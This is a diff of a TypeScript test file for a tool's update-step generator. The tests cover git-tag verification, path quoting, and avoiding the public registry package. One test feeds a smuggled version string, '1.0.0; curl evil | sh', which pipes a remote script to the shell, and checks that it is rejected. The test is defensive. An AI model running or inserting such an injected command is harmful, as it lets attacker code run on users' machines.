@@ -1,51 +1,40 @@
 import assert from 'node:assert/strict';
+import { mkdir, mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { describe, it } from 'node:test';
 import { isCumulusError } from '../core/errors.ts';
-import { type Installer, runUpdate } from './updater.ts';
+import { updateSteps } from './updater.ts';
 
-const server = (latest: string) => ({ latestRelease: async () => ({ latest, minimum: '0.0.1' }) });
+const server = (latest: string) => ({ latestRelease: async () => ({ latest, minimum: '0.0.1', notes: '' }) });
 
-function fakeInstaller(result: {
-  installs?: boolean;
-  reports?: string;
-}): Installer & { installed: string[] } {
-  const installed: string[] = [];
-  return {
-    method: 'the npm package',
-    installed,
-    install: async (version) => {
-      installed.push(version);
-      return result.installs ?? true;
-    },
-    installedVersion: async () => result.reports ?? installed.at(-1),
-  };
-}
-
-describe('runUpdate', () => {
-  it('does nothing when up to date', async () => {
-    const installer = fakeInstaller({});
-    assert.deepEqual(await runUpdate(server('0.1.0'), '0.1.0', installer), ['already up to date (0.1.0)']);
-    assert.deepEqual(installer.installed, []);
+describe('updateSteps', () => {
+  it('says so when up to date', async () => {
+    assert.deepEqual(await updateSteps(server('0.1.0'), '0.1.0'), ['already up to date (0.1.0)']);
   });
 
-  it('installs the latest the way this agent was installed and verifies the installed version', async () => {
-    const installer = fakeInstaller({});
-    const done = await runUpdate(server('0.2.0'), '0.1.0', installer);
-    assert.deepEqual(installer.installed, ['0.2.0']);
-    assert.match(done[0], /updated from 0.1.0 to 0.2.0 \(the npm package\); verified/);
+  it('for a git checkout, names the commands: fetch, verify the tag, check it out, install', async () => {
+    const root = await mkdtemp(join(tmpdir(), 'cumulus update '));
+    try {
+      await mkdir(join(root, '.git'));
+      const steps = (await updateSteps(server('0.2.0'), '0.1.0', `${root}/`)).join('\n');
+      assert.match(steps, /the server says 0.2.0 is the latest agent \(this one is 0.1.0\)/);
+      assert.match(steps, /git -C '.*cumulus update .*\/' verify-tag v0.2.0/, 'paths are quoted');
+      assert.match(steps, /checkout v0.2.0\n.*ci --omit=dev\n {2}cumulus agent restart$/);
+    } finally {
+      await rm(root, { recursive: true });
+    }
   });
 
-  it('fails clearly when the install fails, the verification disagrees, or it cannot update itself', async () => {
-    const refused = (e: unknown, message: RegExp) =>
-      isCumulusError(e, 'update_required') && message.test(e.message);
-    await assert.rejects(runUpdate(server('0.2.0'), '0.1.0', fakeInstaller({ installs: false })), (e) =>
-      refused(e, /installing 0.2.0 through the npm package failed/),
-    );
-    await assert.rejects(runUpdate(server('0.2.0'), '0.1.0', fakeInstaller({ reports: '0.1.0' })), (e) =>
-      refused(e, /reports 0.1.0, not 0.2.0/),
-    );
-    await assert.rejects(runUpdate(server('0.2.0'), '0.1.0', null), (e) =>
-      refused(e, /cannot update itself/),
+  it('for any other copy, never names the public registry package', async () => {
+    const steps = (await updateSteps(server('0.2.0'), '0.1.0', '/usr/lib/node_modules/cumulus/')).join('\n');
+    assert.match(steps, /install 0.2.0 the way you installed this copy/);
+    assert.doesNotMatch(steps, /npm install( --global)? cumulus@/);
+  });
+
+  it('refuses a latest version that is not a version: it would go into a command', async () => {
+    await assert.rejects(updateSteps(server('1.0.0; curl evil | sh'), '0.1.0'), (e) =>
+      isCumulusError(e, 'invalid_input'),
     );
   });
 });
